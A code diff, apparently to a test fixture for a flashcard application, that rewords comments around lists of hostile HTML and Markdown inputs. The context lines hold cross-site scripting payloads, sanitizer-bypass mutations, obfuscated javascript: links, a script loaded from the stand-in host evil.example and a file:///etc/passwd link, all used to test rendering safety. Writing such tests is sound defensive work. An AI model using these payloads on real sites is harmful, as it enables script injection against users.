@@ -1,12 +1,12 @@
 import { deckFile } from '../../support/content.js'
 
-/** A host that must never be requested; it does not exist. */
+/** A host that does not exist and must never be requested */
 export const ELSEWHERE = 'evil.example'
 
 /** Payload that marks its execution */
 const RUN = 'window.hit=1'
 
-/** HTML attacks, plain and as mutations that have passed sanitizers */
+/** HTML attacks, plain and as mutations that have bypassed sanitizers */
 const HTML = [
   `<script>${RUN}</script>`,
   `<script src="https://${ELSEWHERE}/x.js"></script>`,
@@ -36,7 +36,7 @@ const HTML = [
   `<p id="</title><img src=x onerror=${RUN}>"><plaintext>`,
 ]
 
-/** Attacks by Markdown: links, images and others */
+/** Markdown attacks: links, images and others */
 const MARKDOWN = [
   `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](&#106;avascript:${RUN}) [d](java%0ascript:${RUN})`,
   `[e](data:text/html,<script>${RUN}</script>) [f](vbscript:${RUN}) [g](blob:https://${ELSEWHERE}/x) [h](file:///etc/passwd)`,
@@ -76,7 +76,7 @@ const CATEGORY = `<svg onload=${RUN}> \u202E${'Kategorie'.repeat(20)}`
 
 const inOneLine = (text: string) => text.replaceAll('\n', ' ').replaceAll(/\\$/g, '')
 
-/** Returns a deck and sheets of attacks; each payload is a card of its own, in question and answer. */
+/** Returns a deck and sheets with all attacks. Each payload is a separate card, as its question and answer. */
 export function hostileFiles(): Record<string, string> {
   const all = [...HTML, ...MARKDOWN, ...SHAPES]
   const cards = all.map((text, at) => ({ id: `karte-${at}`, question: inOneLine(text), answer: text }))
